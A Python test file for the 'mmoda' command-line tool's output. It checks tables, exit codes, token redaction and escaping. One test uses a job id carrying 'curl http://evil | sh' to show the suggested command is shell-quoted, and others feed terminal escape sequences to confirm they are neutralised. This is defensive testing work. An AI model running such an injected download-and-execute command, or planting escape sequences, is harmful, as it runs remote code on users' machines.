"""What the ``mmoda`` command prints: tables, exit codes and messages of failures."""
import shlex
import types
import warnings

from astroquery.exceptions import InvalidQueryError, LoginError, RemoteServiceError, TimeoutError

from astroquery_mmoda.cli import EXIT_ERROR, EXIT_LOGIN, EXIT_TIMEOUT, EXIT_USAGE, format_table
from astroquery_mmoda.cli import output
from astroquery_mmoda.cli.output import exit_code
from astroquery_mmoda.cli.values import CommandError


def test_format_table():
    lines = format_table(["name", "unit"], [["p", "W"], ["src_name", None]])
    assert lines == ["name      unit", "--------  ----", "p         W", "src_name"]


def test_exit_codes_of_failures():
    assert exit_code(CommandError("x", EXIT_USAGE)) == EXIT_USAGE
    assert exit_code(LoginError("x")) == EXIT_LOGIN
    assert exit_code(InvalidQueryError("x")) == EXIT_USAGE
    assert exit_code(TimeoutError("x")) == EXIT_TIMEOUT
    assert exit_code(RemoteServiceError("x")) == EXIT_ERROR
    assert exit_code(ValueError("x")) == EXIT_ERROR


def test_the_log_of_a_command_is_token_free_with_the_one_redacting_filter(capsys):
    import logging
    import secrets

    import jwt
    from astroquery import log

    from astroquery_mmoda.cli.output import Output
    from astroquery_mmoda.redaction import RedactingFilter

    token = jwt.encode({"sub": "x@example.org", "exp": 4102444800}, secrets.token_hex(32),
                       algorithm="HS256")
    with Output(1):
        (handler,) = log.handlers
        assert [type(f) for f in handler.filters] == [RedactingFilter]
        log.info(f"GET /run_analysis?token={token}")
        log.warning("refused: %s", ValueError(f"token={token}"))  # a non-text argument
        logging.getLogger("urllib3").warning("GET /?token=%s", token)
    err = capsys.readouterr().err
    assert err.splitlines() == ["mmoda: info: GET /run_analysis?token=<token>",
                                "mmoda: warning: refused: token=<token>",
                                "mmoda: warning: GET /?token=<token>"]


def fake_job(job_id, session_id="ABCDEFGHIJKLMNOP"):
    return types.SimpleNamespace(job_id=job_id, session_id=session_id, status="submitted")


def test_the_suggested_command_quotes_every_word():
    hint = output.resume_hint(fake_job("x; curl http://evil | sh #"), output="my dir")
    assert shlex.split(hint) == ["mmoda", "job", "x; curl http://evil | sh #", "--session-id",
                                 "ABCDEFGHIJKLMNOP", "--wait", "-o", "my dir"]
    assert output.resume_hint(fake_job("0123456789abcdef")) == \
        "mmoda job 0123456789abcdef --session-id ABCDEFGHIJKLMNOP --wait"


def test_control_characters_are_shown_as_question_marks():
    assert output.printable("a\x1b]0;owned\x07b\tc\nd\x9be\x7f") == "a?]0;owned?b\tc\nd?e?"
    assert output.cell("\x1b[2Jjob") == "?[2Jjob"
    assert output.format_table(["id"], [["\x1b[31mred"]])[-1] == "?[31mred"


def test_notes_lines_errors_and_warnings_are_printable(capsys):
    output.note("job \x1b[2J done")
    output.print_lines(["row \x1b[1m", "plain"])
    output.report("failed \x1b]0;title\x07")
    with warnings.catch_warnings(), output.Output(0):
        warnings.simplefilter("always")  # the suite turns warnings into errors
        warnings.warn("comment \x1b[5m blinking")
        from astroquery import log
        log.warning("logged \x1b[8m hidden")
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.err
    assert captured.out == "row ?[1m\nplain\n"
    assert "mmoda: job ?[2J done" in captured.err and "mmoda: error: failed ?]0;title?" in captured.err
    assert "comment ?[5m blinking" in captured.err and "logged ?[8m hidden" in captured.err
